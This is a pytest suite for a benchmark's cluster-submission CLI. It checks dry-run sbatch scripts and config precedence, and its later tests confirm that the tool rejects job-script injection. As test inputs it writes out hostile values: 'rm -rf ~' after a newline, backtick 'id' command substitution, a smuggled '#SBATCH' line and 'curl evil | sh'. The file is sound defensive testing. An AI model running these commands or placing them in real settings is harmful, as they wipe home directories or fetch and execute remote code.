"""`atss-bench submit` without a cluster: --dry-run output, config-file defaults, --cluster local
end to end (a real background process training a tiny run through the same job callable)."""
from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from atss_bench.cli.main import app
from atss_bench.store import load_results
from tests.launch.tiny import write_tiny_profile

REPO_ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args])


@pytest.fixture(autouse=True)
def _no_user_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The user's own ~/.config/atss-bench and ATSS_BENCH_* settings never leak into a test."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    for name in list(os.environ):
        if name.startswith("ATSS_BENCH_") and name not in ("ATSS_BENCH_CACHE",):
            monkeypatch.delenv(name)


def test_dry_run_prints_sbatch_parameters_and_tasks_and_submits_nothing(tmp_path: Path) -> None:
    results = tmp_path / "results"
    result = invoke("submit", "recipes/table2.yaml", "--profile", "mini", "--cluster", "slurm",
                    "--partition", "gpu", "--gpus-per-node", "8", "--nodes", "2", "--time", "90",
                    "--array-parallelism", "2", "--dry-run", "--results", results)
    assert result.exit_code == 0, result.output
    out = result.output
    assert "nothing is submitted" in out and "4 of 4 distinct runs to submit" in out
    for line in ("#SBATCH --array=0-3%2", "#SBATCH --partition=gpu", "#SBATCH --nodes=2",
                 "#SBATCH --ntasks-per-node=8", "#SBATCH --gpus-per-node=8",
                 "#SBATCH --time=90", "#SBATCH --job-name=atss-table2-mini"):
        assert line in out, line
    assert "partition = 'gpu'  (--partition)" in out
    tasks = re.findall(r"^\s+(\d)\s+submit\s+(\w+) seed 0 \[([0-9a-f]{12})\]", out, re.MULTILINE)
    assert [(i, row) for i, row, _ in tasks] == [
        ("0", "iou_box"), ("1", "iou_point"), ("2", "scale_box"), ("3", "scale_point")]
    assert not results.exists()  # nothing written, nothing submitted


def test_defaults_come_from_the_config_file_and_flags_win(tmp_path: Path, monkeypatch) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[cluster]\npartition = "a100"\ngpus_per_node = 4\ntime = 600\n'
                      'qos = "low"\n')
    monkeypatch.setenv("ATSS_BENCH_CONFIG", str(config))
    monkeypatch.setenv("ATSS_BENCH_QOS", "high")
    result = invoke("submit", "recipes/table2.yaml", "--profile", "mini", "--rows", "iou_box",
                    "--cluster", "slurm", "--time", "30", "--dry-run", "--results", tmp_path)
    assert result.exit_code == 0, result.output
    out = result.output
    assert f"partition = 'a100'  ({config})" in out and "#SBATCH --partition=a100" in out
    assert "#SBATCH --gpus-per-node=4" in out and "#SBATCH --ntasks-per-node=4" in out
    assert "#SBATCH --qos=high" in out and "(ATSS_BENCH_QOS)" in out
    assert "#SBATCH --time=30" in out and "time = 30  (--time)" in out
    assert "#SBATCH --array" not in out  # one run: one job, not an array


def test_user_mistakes_are_one_line_errors(tmp_path: Path, monkeypatch) -> None:
    bad = tmp_path / "config.toml"
    bad.write_text("[cluster]\ngpus = 8\n")
    monkeypatch.setenv("ATSS_BENCH_CONFIG", str(bad))
    result = invoke("submit", "recipes/table2.yaml", "--dry-run", "--results", tmp_path)
    assert result.exit_code == 2
    assert "unknown key 'cluster.gpus'" in result.output
    assert "did you mean 'gpus_per_node'?" in result.output and "Traceback" not in result.output
    monkeypatch.delenv("ATSS_BENCH_CONFIG")
    result = invoke("submit", "recipes/table2.yaml", "--cluster", "local", "--nodes", "2",
                    "--results", tmp_path)
    assert result.exit_code == 2 and "--cluster local runs on this machine" in result.output
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))  # no sbatch / srun / sacct here
    result = invoke("submit", "recipes/table2.yaml", "--cluster", "slurm", "--results", tmp_path)
    assert result.exit_code == 2 and "SLURM is not available here" in result.output
    assert "use --cluster local" in result.output and not (tmp_path / "runs").exists()


def test_local_cluster_end_to_end(tmp_path: Path, monkeypatch) -> None:
    """A real background process (submitit LocalExecutor) trains a tiny run; --wait follows it."""
    monkeypatch.setenv("PYTHONPATH", str(REPO_ROOT))
    monkeypatch.setenv("ATSS_BENCH_CACHE", str(tmp_path / "cache"))
    profile = write_tiny_profile(tmp_path)
    results = tmp_path / "results"
    args = ("submit", "recipes/table2.yaml", "--profile", profile, "--rows", "iou_box",
            "--cluster", "local", "--results", results)
    result = invoke(*args, "--wait", "--poll", "0.5")
    assert result.exit_code == 0, result.output
    assert re.search(r"submitted 1 runs to local as 1 job\(s\)", result.output)
    assert "1/1 done" in result.output
    frame = load_results(results)
    assert list(frame["status"]) == ["done"] and frame["AP"].notna().all()
    assert frame["iter"].tolist() == [8] and frame["max_iter"].tolist() == [8]
    job_id = re.search(r"job ids: (\d+)", result.output).group(1)
    log = results / "submitit" / "local" / job_id / f"{job_id}_0_log.out"
    assert "done on rank 0" in log.read_text()
    again = invoke(*args)
    assert again.exit_code == 0 and "nothing to submit" in again.output
    assert "skip: iou_box seed 0" in again.output


# --- sbatch safety end to end: a fake sbatch on PATH records what would be submitted ------------

FAKE_SBATCH = """#!/bin/sh
cp "$1" "{copy}"
echo "Submitted batch job 4242"
"""


@pytest.fixture
def fake_slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """sbatch copies the script it is given to the returned path; srun/sacct/squeue say nothing."""
    bin_dir = tmp_path / "fake-bin"
    bin_dir.mkdir()
    copy = tmp_path / "submitted.sh"
    (bin_dir / "sbatch").write_text(FAKE_SBATCH.format(copy=copy))
    for tool in ("srun", "sacct", "squeue"):
        (bin_dir / tool).write_text("#!/bin/sh\nexit 0\n")
    for tool in bin_dir.iterdir():
        tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return copy


def _assert_refused(result, *expected: str) -> None:
    assert result.exit_code == 2, result.output
    text = result.output.strip()
    assert len(text.splitlines()) == 1 and text.startswith("error:"), text
    for part in expected:
        assert part in text, (part, text)


def _config(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "hostile.toml"
    path.write_text("[cluster]\n" + body)
    return path


@pytest.mark.parametrize("source", ["flag", "env", "file", "file-setup", "env-setup"])
def test_hostile_settings_are_refused_before_anything_is_written(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_slurm: Path, source: str) -> None:
    flags: list[str] = []
    if source == "flag":
        flags, expected = ["--partition", "gpu\nrm -rf ~"], ("--partition: partition:",
                                                             "'gpu\\nrm -rf ~'")
    elif source == "env":
        monkeypatch.setenv("ATSS_BENCH_ACCOUNT", "lab`id`")
        expected = ("ATSS_BENCH_ACCOUNT: account:", "'lab`id`'")
    elif source == "file":
        config = _config(tmp_path, 'qos = "high\\n#SBATCH --qos=top"\n')
        monkeypatch.setenv("ATSS_BENCH_CONFIG", str(config))
        expected = (f"{config}: cluster.qos:", "'high\\n#SBATCH --qos=top'")
    elif source == "file-setup":
        config = _config(tmp_path, 'setup = ["module load cuda\\ncurl evil | sh"]\n')
        monkeypatch.setenv("ATSS_BENCH_CONFIG", str(config))
        expected = (f"{config}: cluster.setup: must be a single line",)
    else:
        monkeypatch.setenv("ATSS_BENCH_SETUP", "module load cuda\ncurl evil | sh")
        expected = ("ATSS_BENCH_SETUP: setup: must be a single line",)
    results = tmp_path / "results"
    for dry in ([], ["--dry-run"]):
        result = invoke("submit", "recipes/table2.yaml", "--profile", "mini", "--cluster", "slurm",
                        *flags, *dry, "--results", results)
        _assert_refused(result, *expected)
    assert not results.exists() and not fake_slurm.exists()  # no folder, nothing submitted


HOSTILE_RECIPE = """\
table: {table}
title: "hostile"
rows:
  - id: a
    label: "A"
"""


@pytest.mark.parametrize("table", ['"2\\nrm -rf ~"', '"2; id"', "[2]", '"t a b"', "true"])
def test_hostile_recipe_table_is_refused_at_load(tmp_path: Path, fake_slurm: Path,
                                                 table: str) -> None:
    recipe = tmp_path / "hostile.yaml"
    recipe.write_text(HOSTILE_RECIPE.format(table=table))
    results = tmp_path / "results"
    result = invoke("submit", recipe, "--profile", "mini", "--cluster", "slurm", "--results",
                    results)
    _assert_refused(result, f"{recipe}: table: must be a table number")
    assert not results.exists() and not fake_slurm.exists()


def test_hostile_profile_name_is_refused_at_load(tmp_path: Path, fake_slurm: Path) -> None:
    profile = write_tiny_profile(tmp_path)
    profile.write_text(profile.read_text().replace("name: tiny", 'name: "tiny\\nrm -rf ~"'))
    results = tmp_path / "results"
    result = invoke("submit", "recipes/table2.yaml", "--profile", profile, "--cluster", "slurm",
                    "--results", results)
    _assert_refused(result, f"{profile}: name: must be a name", "'tiny\\nrm -rf ~'")
    assert not results.exists() and not fake_slurm.exists()


def test_dry_run_shows_the_whole_script_and_submission_sends_exactly_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_slurm: Path) -> None:
    monkeypatch.setenv("ATSS_BENCH_CONFIG", str(_config(
        tmp_path, 'setup = ["module load cuda/12.1", "export OMP_NUM_THREADS=$SLURM_CPUS"]\n')))
    results = tmp_path / "results"
    args = ("submit", "recipes/table2.yaml", "--profile", "mini", "--cluster", "slurm",
            "--partition", "gpu", "--account", "vision", "--gpus-per-node", "2", "--mem-gb", "16",
            "--results", results)
    dry = invoke(*args, "--dry-run")
    assert dry.exit_code == 0, dry.output
    start = dry.output.index("#!/bin/bash")
    script = dry.output[start:dry.output.index("(end of sbatch script)")]
    assert "#SBATCH --partition=gpu\n" in script and "#SBATCH --account=vision\n" in script
    assert "# setup\nmodule load cuda/12.1\nexport OMP_NUM_THREADS=$SLURM_CPUS\n" in script
    assert "-m submitit.core._submit" in script and not results.exists()
    submitted = invoke(*args)
    assert submitted.exit_code == 0, submitted.output
    assert fake_slurm.read_text().strip() == script.strip()  # the dry run showed what was sent


def test_results_folder_no_script_can_name_is_refused_before_any_write(
        tmp_path: Path, fake_slurm: Path) -> None:
    for name in ("res\nults", "res%Aults"):
        results = tmp_path / name
        result = invoke("submit", "recipes/table2.yaml", "--profile", "mini", "--cluster",
                        "slurm", "--results", results)
        _assert_refused(result, "cannot go into a job script", repr(str(results)))
        assert not results.exists() and not fake_slurm.exists()
